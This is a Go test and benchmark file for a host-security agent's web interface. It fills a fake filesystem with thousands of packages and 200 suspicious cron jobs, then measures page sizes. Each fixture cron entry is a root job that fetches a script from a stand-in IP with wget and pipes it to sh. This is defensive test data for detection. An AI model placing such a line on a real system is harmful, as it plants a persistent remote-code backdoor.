@@ -1,0 +1,87 @@
+package agent
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	ui "picket/agent/page"
+)
+
+// pageOf is the page of an agent that has seen a device with 5,000 packages and 200 suspicious jobs, in a store on disk,
+// and gives what asks for a page of it.
+func pageOf(t testing.TB, packages, jobs int) (get func(path string) *httptest.ResponseRecorder) {
+	t.Helper()
+	root := smallSystem(t, packages)
+	for i := range jobs {
+		replace(t, root, fmt.Sprintf("/etc/cron.d/job-%d", i), "* * * * * root wget -qO- http://198.51.100.7/x | sh\n")
+	}
+	b := newBench(t, root)
+	d, err := newDaemon(b.machine)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		if err := d.leave(nil); err != nil {
+			t.Error(err)
+		}
+	})
+	d.begin()
+	if _, err := d.scanWhole(t.Context(), "once", d.set.Load().criteria); err != nil {
+		t.Fatal(err)
+	}
+	const address = "127.0.0.1:4711"
+	s, err := ui.New(address, d.pageSource(), time.Now, b.log0())
+	if err != nil {
+		t.Fatal(err)
+	}
+	enter := httptest.NewRequest("POST", "http://"+address+"/enter", strings.NewReader(url.Values{"token": {s.Token(ui.Grant{Act: true, Language: "nl"})}}.Encode()))
+	enter.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	enter.Header.Set("Origin", "http://"+address)
+	in := httptest.NewRecorder()
+	s.ServeHTTP(in, enter)
+	cookies := in.Result().Cookies()
+	if in.Code != http.StatusSeeOther || len(cookies) != 1 {
+		t.Fatalf("entering: %d", in.Code)
+	}
+	return func(path string) *httptest.ResponseRecorder {
+		r := httptest.NewRequest("GET", "http://"+address+in.Header().Get("Location")+path, nil)
+		r.AddCookie(cookies[0])
+		r.Header.Set("Accept-Encoding", "gzip")
+		w := httptest.NewRecorder()
+		s.ServeHTTP(w, r)
+		if w.Code != http.StatusOK {
+			t.Fatalf("%q: %d", path, w.Code)
+		}
+		return w
+	}
+}
+
+// BenchmarkPage is what a page costs the agent, its store included.
+func BenchmarkPage(b *testing.B) {
+	get := pageOf(b, 5000, 200)
+	for _, path := range []string{"", "apps", "apps?q=pkg49", "network", "unchecked", "sent"} {
+		b.Run(path, func(b *testing.B) {
+			size := 0
+			for b.Loop() {
+				size = get(path).Body.Len()
+			}
+			b.ReportMetric(float64(size), "bytes")
+		})
+	}
+}
+
+// Pages of a large device are small on the wire with what the agent really says, too.
+func TestPageOfALargeDeviceIsSmall(t *testing.T) {
+	t.Parallel()
+	get := pageOf(t, 500, 200)
+	for _, path := range []string{"", "apps", "network", "unchecked", "sent"} {
+		if n := get(path).Body.Len(); n > 100<<10 {
+			t.Errorf("%q: %d bytes", path, n)
+		}
+	}
+}
